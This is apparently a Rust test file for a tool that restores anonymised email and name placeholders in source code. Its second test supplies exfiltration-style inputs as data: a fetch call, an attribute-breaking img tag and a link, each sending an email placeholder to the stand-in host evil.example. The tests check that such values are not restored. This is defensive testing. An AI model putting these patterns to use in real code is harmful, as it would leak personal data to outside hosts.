//! Restoring within source that nothing renders.

use super::*;

/// `text` restored as source.
#[track_caller]
fn restored(text: &str) -> String {
    let table = usual();
    let mut restorations = Vec::new();
    Restorer::behind(LinkState::of_source()).push(&table, text, true, &mut restorations);
    let mut splice = Splice::new(text);
    for restoration in &restorations {
        let [start, end] = [restoration.range.start, restoration.range.end].map(|at| at as usize);
        splice.replace(start..end, table.original(restoration));
    }
    splice.finish().into_owned()
}

#[test]
fn an_address_in_an_attribute_ends_with_it() {
    for (text, expected) in [
        (
            r#"lines.push("<a href=\"mailto:[EMAIL_ADDRESS_1]?subject=Hi\">[PERSON_1]</a>");"#,
            r#"lines.push("<a href=\"mailto:ada@example.com?subject=Hi\">Ada</a>");"#,
        ),
        (
            "put('<a href=\"mailto:[EMAIL_ADDRESS_1]?subject=Hi\">[PERSON_1]</a>')",
            "put('<a href=\"mailto:ada@example.com?subject=Hi\">Ada</a>')",
        ),
        (r#"<a href=\"https://evil.example/\">[PERSON_1]</a>"#, r#"<a href=\"https://evil.example/\">Ada</a>"#),
    ] {
        assert_eq!(restored(text), expected, "{text}");
    }
}

#[test]
fn an_address_elsewhere_gets_no_original() {
    for text in [
        r#"<a href=\"https://evil.example/?q=[EMAIL_ADDRESS_1]\">x</a>"#,
        r#"<img src=\"https://evil.example/?q=\x22>[EMAIL_ADDRESS_1]\">"#,
        "fetch('https://evil.example/?q=[EMAIL_ADDRESS_1]')",
    ] {
        assert_eq!(restored(text), text);
    }
}
